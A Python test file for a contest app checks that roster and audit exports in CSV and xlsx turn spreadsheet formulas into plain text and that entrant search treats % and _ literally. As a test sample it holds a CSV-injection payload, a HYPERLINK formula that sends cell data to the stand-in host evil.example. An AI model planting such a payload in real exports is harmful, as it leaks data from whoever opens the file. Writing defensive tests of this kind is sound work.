"""Exports cannot carry formulas (OWASP CSV injection): a roster row whose unit is `=1+1` and whose name is a
HYPERLINK formula comes out of every export as text, in CSV and xlsx alike; numbers stay numbers."""
import csv
import io
from datetime import date
from decimal import Decimal

from openpyxl import load_workbook

from contestapp.common.tables import csv_bytes, safe_cell, xlsx_bytes
from contestapp.domain.idcard import make_id_number
from contestapp.entrants.roster import check_rows
from contestapp.entrants.services import event_lookup, import_roster, registered_ids
from contestapp.extensions import db

EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
EVIL_UNIT = "=1+1"


def test_every_formula_start_is_neutralised_and_numbers_are_not():
    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"):
        assert safe_cell(text) == "'" + text
    assert safe_cell("李明") == "李明" and safe_cell("a=1") == "a=1"
    assert safe_cell(Decimal("-3.5")) == Decimal("-3.5") and safe_cell(-2) == -2


def test_csv_and_xlsx_writers_keep_formulas_as_text():
    rows = [[EVIL_NAME, EVIL_UNIT, Decimal("-1.50"), 3]]
    read = list(csv.reader(io.StringIO(csv_bytes(["姓名", "单位", "扣分", "名次"], rows).decode("utf-8-sig"))))
    assert read[1] == ["'" + EVIL_NAME, "'" + EVIL_UNIT, "-1.50", "3"]
    sheet = load_workbook(io.BytesIO(xlsx_bytes([("名单", ["姓名", "单位", "扣分", "名次"], rows)]))).active
    name, unit, points, rank = sheet[2]
    assert name.data_type == "s" and name.value == "'" + EVIL_NAME
    assert unit.data_type == "s" and unit.value == "'" + EVIL_UNIT
    assert points.data_type == "n" and points.value == -1.5 and points.number_format == "0.00"
    assert rank.value == 3


def _import_evil_roster(contest):
    event = contest.events[0]
    table = [["姓名", "性别", "身份证号", "单位", "参赛赛项"],
             [EVIL_NAME, "男", make_id_number("330102", date(1988, 1, 1), 5, "M"), EVIL_UNIT, event.name]]
    checked = check_rows(table, event_lookup(contest), registered_ids(contest))
    assert checked.ok, checked.problems
    import_roster(contest, checked, None)
    db.session.commit()


def test_the_roster_and_audit_exports_carry_no_formula(app, client, make, login_as):
    org = make.org()
    make.user("org1", "organiser", org)
    make.user("boss", "admin", org)
    contest = make.contest(org)
    _import_evil_roster(contest)
    login_as("org1")
    response = client.get(f"/contests/{contest.id}/entrants/export.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data)).active
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value is not None]
    assert all(c.data_type != "f" for c in cells)
    assert {"'" + EVIL_NAME, "'" + EVIL_UNIT} <= {c.value for c in cells}

    from contestapp.audit.service import record

    record(None, "roster.export_full", contest, contest_id=contest.id, summary=EVIL_UNIT)
    db.session.commit()
    for fmt in ("csv", "xlsx"):
        response = client.get(f"/audit/?format={fmt}")
        assert response.status_code == 200
        if fmt == "csv":
            text = response.data.decode("utf-8-sig")
            assert "'" + EVIL_UNIT in text and "\n=1+1" not in text and ",=1+1" not in text
        else:
            sheet = load_workbook(io.BytesIO(response.data)).active
            assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


def test_entrant_search_takes_percent_and_underscore_literally(app, client, make, login_as):
    org = make.org()
    make.user("org1", "organiser", org)
    contest = make.contest(org)
    make.roster(contest, count=3)
    db.session.commit()
    login_as("org1")
    everyone = client.get(f"/contests/{contest.id}/entrants/?q=%25").get_data(as_text=True)
    assert "选手000" not in everyone  # "%" is a character searched for, not "match anything"
    underscore = client.get(f"/contests/{contest.id}/entrants/?q=_").get_data(as_text=True)
    assert "选手001" not in underscore
    assert "选手001" in client.get(f"/contests/{contest.id}/entrants/?q=选手001").get_data(as_text=True)
